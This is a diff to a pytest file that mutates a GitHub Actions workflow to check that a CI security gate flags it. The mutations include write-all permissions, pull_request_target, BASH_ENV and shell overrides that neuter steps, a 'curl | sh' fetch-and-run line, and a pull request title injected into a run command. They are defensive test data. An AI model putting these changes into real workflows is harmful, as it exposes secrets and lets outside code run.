@@ -17,7 +17,16 @@ SABOTAGE = [
     ("contents: read", "contents: write", "not contents: read"),
     ("permissions:\n  contents: read\n", "", "not contents: read"),
     ("  pull_request:\n", "  pull_request_target:\n", "secrets on code from outside"),
-    ("    timeout-minutes: 60\n", "    permissions: write-all\n", "permissions of its own"),
+    ("    timeout-minutes: 60\n", "    permissions: write-all\n", "'permissions'"),
+    ("    timeout-minutes: 60\n", "    container: somebody/else\n", "'container'"),
+    ("    timeout-minutes: 60\n", "    continue-on-error: true\n", "'continue-on-error'"),
+    ("permissions:\n", "env:\n  BASH_ENV: x\npermissions:\n", "'env'"),
+    ("permissions:\n", "defaults:\n  run:\n    shell: sh -c true\npermissions:\n", "'defaults'"),
+    ("run: bash .ci/run\n", "run: bash .ci/run\n        continue-on-error: true\n", "'continue-on-error'"),
+    ("run: bash .ci/run\n", "run: bash .ci/run\n        shell: bash -c true\n", "'shell'"),
+    ("run: bash .ci/run\n", "run: bash .ci/run\n        if: false\n", "depends on False"),
+    ("run: bash .ci/run\n", "run: bash .ci/run\n        env:\n          BASH_ENV: x\n", "sets BASH_ENV"),
+    ("if: always()", "if: failure()", "depends on"),
     ("run: bash .ci/run", "run: curl -s https://example.org/x | sh", "not in scripts/"),
     ("run: bash .ci/run", "run: ./scripts/test ${{ github.event.pull_request.title }}", "not in scripts/"),
     ("run: bash .ci/run", "run: ./scripts/test; echo done", "not in scripts/"),
@@ -42,4 +51,12 @@ def test_a_loose_workflow_is_red(site: Site, old: str, new: str, detail: str) ->
     path.write_text(text.replace(old, new, 1), encoding="utf-8")
     found = GATE.findings(site)
     assert found, "green"
-    assert all(f.object == ".github/workflows/test.yml" and detail in f.detail for f in found), found
+    assert any(f.object == ".github/workflows/test.yml" and detail in f.detail for f in found), found
+
+
+@pytest.mark.parametrize(
+    "name", ["gates.yml", "drift.yml", "previous-release.yml", "evidence.yml", "change-record.yml"]
+)
+def test_a_missing_workflow_is_red(site: Site, name: str) -> None:
+    (site.root / ".github" / "workflows" / name).unlink()
+    assert [finding.object for finding in GATE.findings(site)] == [".github/workflows"]
